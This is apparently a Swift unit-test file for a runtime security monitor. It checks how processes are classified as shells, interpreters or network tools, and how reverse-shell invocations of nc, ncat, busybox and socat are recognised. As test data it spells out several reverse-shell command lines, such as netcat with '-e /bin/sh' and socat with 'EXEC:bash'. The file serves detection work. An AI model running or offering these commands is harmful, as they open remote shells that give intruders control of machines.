// SPDX-License-Identifier: Apache-2.0
// Program classification and tool-argument parsing behind the reverse-shell rule.
import XCTest
@testable import RuntimeWatchCore

final class ReverseShellMatchingTests: XCTestCase {
    private func kind(_ exe: String, _ argv: [String]) -> ProgramKind {
        ProgramClassifier.kind(of: ProcessInfo(pid: ProcessID(1), exe: exe, argv: argv))
    }

    func testShellsInterpretersAndBusyboxApplets() {
        XCTAssertEqual(kind("/usr/bin/bash", ["bash", "-i"]), .shell)
        XCTAssertEqual(kind("/usr/bin/dash", ["/bin/sh", "-c", "x"]), .shell)
        XCTAssertEqual(kind("/bin/busybox", ["sh"]), .shell)
        XCTAssertEqual(kind("/bin/busybox", ["busybox", "sh", "-c", "id"]), .shell)
        XCTAssertEqual(kind("/bin/busybox", ["nc", "1.2.3.4", "1"]), .networkTool)
        XCTAssertEqual(kind("/usr/bin/python3.11", ["python3", "-c", "x"]), .interpreter)
        XCTAssertEqual(kind("/usr/bin/perl", ["perl"]), .interpreter)
        XCTAssertEqual(kind("/usr/bin/mawk", ["awk", "BEGIN{}"]), .interpreter)
        for exe in ["/usr/bin/luajit", "/usr/bin/tclsh8.6", "/usr/lib/R/bin/Rscript", "/usr/bin/python2.7", "/usr/bin/nodejs", "/usr/bin/ruby3.1"] {
            XCTAssertEqual(kind(exe, [exe]), .interpreter, exe)
        }
        XCTAssertEqual(kind("/usr/bin/Rscript", ["Rscript", "-e", "system('id')"]), .interpreter)
        XCTAssertTrue(ProgramClassifier.isOneLiner(ProcessInfo(pid: ProcessID(1), exe: "/usr/bin/Rscript", argv: ["Rscript", "-e", "x"])))
        XCTAssertEqual(kind("/usr/bin/Rust-tool", ["x"]), .other, "a name that only starts like an interpreter's")
        XCTAssertEqual(kind("/usr/bin/base64", ["base64"]), .copyOrEncodeTool)
        XCTAssertEqual(kind("/usr/local/bin/pythonista-tool", ["x"]), .other)
        XCTAssertEqual(kind("/usr/bin/sleep", ["sleep", "1"]), .other)
        // A renamed copy of bash is judged by its file name, not comm.
        XCTAssertEqual(ProgramClassifier.kind(of: ProcessInfo(pid: ProcessID(1), comm: "bash", exe: "/app/server", argv: ["/app/server"])), .other)
    }

    func testOneLiners() {
        XCTAssertTrue(ProgramClassifier.isOneLiner(ProcessInfo(pid: ProcessID(1), exe: "/usr/bin/python3", argv: ["python3", "-c", "print(1)"])))
        XCTAssertTrue(ProgramClassifier.isOneLiner(ProcessInfo(pid: ProcessID(1), exe: "/usr/bin/perl", argv: ["perl", "-MIO", "-e", "x"])))
        XCTAssertFalse(ProgramClassifier.isOneLiner(ProcessInfo(pid: ProcessID(1), exe: "/usr/bin/python3", argv: ["python3", "/app/main.py"])))
        XCTAssertFalse(ProgramClassifier.isOneLiner(ProcessInfo(pid: ProcessID(1), exe: "/usr/bin/bash", argv: ["bash", "-c", "x"])))
    }

    func testNetcatFamilies() {
        func m(_ name: String, _ argv: [String]) -> String? {
            ReverseShellToolMatcher.match(name: name, argv: argv).map { "\($0.option) \($0.program)" }
        }
        XCTAssertEqual(m("nc", ["nc", "198.51.100.1", "4444", "-e", "/bin/sh"]), "-e /bin/sh")
        XCTAssertEqual(m("nc", ["nc", "-nve/bin/bash", "198.51.100.1", "4444"]), "-e /bin/bash")
        XCTAssertEqual(m("nc", ["nc", "-nv", "-c", "sh -i", "h", "1"]), "-c sh -i")
        XCTAssertEqual(m("nc", ["busybox", "nc", "h", "1", "-e", "sh"]), "-e sh")
        XCTAssertEqual(m("ncat", ["ncat", "--sh-exec", "sh", "h", "1"]), "--sh-exec sh")
        XCTAssertEqual(m("ncat", ["ncat", "--exec=/bin/sh", "h", "1"]), "--exec /bin/sh")
        XCTAssertEqual(m("ncat", ["ncat", "--lua-exec", "x.lua", "h", "1"]), "--lua-exec x.lua")
        XCTAssertEqual(m("socat", ["socat", "TCP:198.51.100.1:4444", "EXEC:'bash -li',pty,stderr"]), "EXEC 'bash -li',pty,stderr")
        XCTAssertEqual(m("socat", ["socat", "tcp-connect:h:1", "system:sh"]), "SYSTEM sh")
        // Look-alikes: port checks, plain clients, an -e that is a value of another option.
        XCTAssertNil(m("nc", ["nc", "-z", "-w", "1", "h", "80"]))
        XCTAssertNil(m("nc", ["nc", "h", "80"]))
        XCTAssertNil(m("nc", ["nc", "-s", "-e", "h", "80"]))      // "-e" is the source address here
        XCTAssertNil(m("socat", ["socat", "-", "TCP:h:80"]))
        XCTAssertNil(m("ncat", ["ncat", "-l", "8080", "--keep-open"]))
    }
}
